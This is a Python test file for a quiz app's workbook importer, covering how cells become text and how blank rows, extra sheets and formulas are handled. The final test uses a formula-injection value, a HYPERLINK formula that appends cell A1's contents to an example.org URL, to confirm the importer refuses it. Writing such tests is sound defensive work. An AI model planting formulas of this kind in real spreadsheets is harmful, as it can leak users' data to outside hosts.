"""Workbooks: a cell is read as what it shows, or refused with its place; nothing is run."""

from datetime import date, datetime, time

import pytest

from quizapp.facts.models import Event, Topic
from quizapp.web.admin.imports_workbook import text_of
from tests.web.admin.import_tables import TABLES, as_xlsx, changed, imported, upload

at = datetime.fromisoformat


@pytest.mark.parametrize(
    ("value", "number_format", "text"),
    [
        (1992, "General", "1992"),
        (1992.0, "General", "1992"),
        (43.25, "General", "43.25"),
        (0.1 + 0.2, "General", "0.3"),
        (1e20, "General", "100000000000000000000"),
        (True, "General", "TRUE"),
        (None, "General", ""),
        ("007", "@", "007"),
        (at("1992-03-04T00:00:00"), "yyyy-mm-dd", "1992-03-04"),
        (date(1992, 3, 4), "dd/mm/yyyy;@", "1992-03-04"),
        (at("1992-03-01T00:00:00"), "mmm-yy", "1992-03"),
        (at("1992-01-01T00:00:00"), '[$-409]"year "yyyy', "1992"),
        (at("1992-03-15T00:00:00"), "mmm-yy", "1992-03-15"),
        (at("1992-03-04T10:30:00"), "General", "1992-03-04T10:30:00"),
        (time(10, 30), "General", "10:30:00"),
    ],
)
def test_a_cell_is_what_it_shows(value, number_format, text):
    assert text_of(value, number_format) == text


def test_numbers_and_dates_of_a_workbook_arrive_as_they_stand(as_operator):
    tables = changed("events", 1, "start", at("1957-10-04T00:00:00"))
    tables["events"][4][2] = 1998.0

    imported(as_operator, [as_xlsx(tables)])

    assert dict(Event.objects.values_list("key", "date"))["e1"] == "1957-10-04"
    assert Event.objects.get(key="e%204").date == "1998"


def test_blank_rows_count_and_other_sheets_are_named(as_operator):
    tables = {**TABLES, "events": [TABLES["events"][0], (), *TABLES["events"][1:], (" ",)], "Notes": [("Buy milk",)]}
    tables["events"][3] = ("e2", "", "1961", "", "", "launch", "", "", "")

    checked = upload(as_operator, [as_xlsx(tables)]).context["checked"]

    assert [(problem.row, problem.column) for problem in checked.problems] == [(4, "title")]
    assert checked.notices[0] == "The sheet “Notes” is none of the tables and was ignored."


def test_a_formula_is_refused_with_its_place_and_never_run_nor_read_as_empty(as_operator):
    tables = changed("events", 2, "title", '=HYPERLINK("http://example.org/"&A1)')

    problem = upload(as_operator, [as_xlsx(tables)]).context["checked"].problems[0]

    assert (problem.row, problem.column, problem.value) == (3, "title", '=HYPERLINK("http://example.org/"&A1)')
    assert "is a formula" in problem.reason
    assert Topic.objects.count() == 0
